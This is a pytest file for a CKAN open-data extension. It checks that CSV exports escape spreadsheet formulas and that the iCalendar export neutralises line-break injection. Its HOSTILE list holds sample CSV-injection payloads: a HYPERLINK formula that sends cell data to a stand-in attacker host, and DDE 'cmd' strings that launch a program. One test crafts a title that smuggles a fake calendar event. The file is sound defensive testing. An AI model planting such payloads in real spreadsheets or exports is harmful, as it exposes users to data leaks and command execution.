"""Spreadsheet formula injection in the CSV exports (issue 15, item 8).

A commune editor announces a private dataset for opening with a title that
a spreadsheet would run; a committee member names themself like a formula.
``/calendrier.csv``, ``/catalogue-scdl.csv`` and the committee report's CSV
write such cells behind an apostrophe (``spreadsheet.py``); the iCalendar
export keeps a hostile title on one line (item 10).
"""
from __future__ import annotations

import csv
import datetime
import io

import pytest
import sqlalchemy as sa

from ckan import model
from ckan.lib import search
from ckan.tests import factories, helpers

from ckanext.metropole import spreadsheet, territory, territory_load
from ckanext.metropole.catalogue import calendar
from ckanext.metropole.tests.data import CHENOVE, complete_dataset

pytestmark = pytest.mark.usefixtures("with_plugins", "clean_db", "clean_index")

HOSTILE = ['=HYPERLINK("https://evil.example.invalid/?"&A1;"Clic")', "+1+cmd|' /C calc'!A0",
           "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0"]


@pytest.mark.parametrize(("value", "written"), [
    ("=1+1", "'=1+1"), ("+33 3 80", "'+33 3 80"), ("-x", "'-x"), ("@x", "'@x"),
    ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("Budget = 3", "Budget = 3"), ("", ""),
    (-3, -3), (2.5, 2.5), (None, None),
])
def test_cell(value, written):
    assert spreadsheet.cell(value) == written


@pytest.fixture
def announced(app):
    """Datasets announced for opening by Chenôve's editor, titled as formulas."""
    territory_load.load(territory.current())
    editor = factories.User(name="editeur-chenove")
    chenove = helpers.call_action("organization_show", id="chenove")
    helpers.call_action("organization_member_create", id=chenove["id"],
                        username=editor["name"], role="editor")
    token = factories.APIToken(user=editor["name"])["token"]
    for i, title in enumerate(HOSTILE):
        response = app.post("/api/3/action/package_create", headers={"Authorization": token},
                            json=complete_dataset(
                                chenove["id"], name=f"annonce-{i}", title=title,
                                private=True, opening_status="planifie",
                                producing_commune=CHENOVE, planned_opening_date="2030-06-01"))
        assert response.status_code == 200, response.body
    return HOSTILE


def _cells(body: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(body)) for cell in row]


def _no_formula(cells: list[str]) -> None:
    for cell in cells:
        assert not cell.startswith(spreadsheet.FORMULA_STARTS), cell


def test_calendar_csv(app, announced):
    cells = _cells(app.get("/calendrier.csv").body)
    _no_formula(cells)
    for title in announced:
        assert "'" + title in cells


def test_scdl_catalogue(app, announced):
    body = app.get("/catalogue-scdl.csv").body
    rows = {r["ID"]: r for r in csv.DictReader(io.StringIO(body))}
    _no_formula(_cells(body))
    for i, title in enumerate(announced):
        assert rows[f"annonce-{i}"]["TITRE"] == "'" + title


def test_committee_report_csv(app):
    member = factories.User(name="membre")
    helpers.call_action("metropole_committee_member_add", user=member["name"],
                        college="recherche", role="member")
    token = factories.APIToken(user=member["name"])["token"]
    response = app.post("/api/3/action/user_patch", headers={"Authorization": token},
                        json={"id": member["id"], "fullname": HOSTILE[0]})
    assert response.status_code == 200, response.body
    year = datetime.date.today().year
    cells = _cells(app.get(f"/comite/rapport/{year}.csv").body)
    _no_formula(cells)
    assert any(cell.startswith("'" + HOSTILE[0]) for cell in cells)


def test_icalendar_keeps_a_hostile_title_on_one_line(app, announced):
    # a bare CR stored past the validators (a title saved before they refused it)
    pkg = helpers.call_action("package_show", id="annonce-0")
    model.Session.execute(sa.text("UPDATE package SET title = :t WHERE id = :id"), {
        "t": "Bus\rEND:VEVENT\rBEGIN:VEVENT\rSUMMARY:Faux\nX-INJECTE:1\x1b", "id": pkg["id"]})
    model.Session.commit()
    model.Session.expire_all()
    search.rebuild(pkg["id"])
    body = app.get("/calendrier.ics").body
    lines = body.split("\r\n")
    assert "\r" not in "".join(lines)
    assert "\n" not in "".join(lines)
    unfolded = body.replace("\r\n ", "")
    assert unfolded.split("\r\n").count("BEGIN:VEVENT") == len(announced)
    assert "SUMMARY:Ouverture prévue : Bus\\nEND:VEVENT\\nBEGIN:VEVENT\\nSUMMARY:Faux\\n" \
        "X-INJECTE:1\r\n" in unfolded
    assert all(len(line.encode()) <= 75 for line in lines)


def test_ics_escape():
    entry = calendar.Entry("x", datetime.date(2031, 1, 2), calendar.PLANNED,
                           "a\r\nb\rc\nd\u2028e\x00f\tg", "Dijon", "")
    body = calendar.to_ics([entry], "Calendrier", "example.invalid")
    assert "SUMMARY:Ouverture prévue : a\\nb\\nc\\nd\\nef\tg\r\n" in body.replace("\r\n ", "")
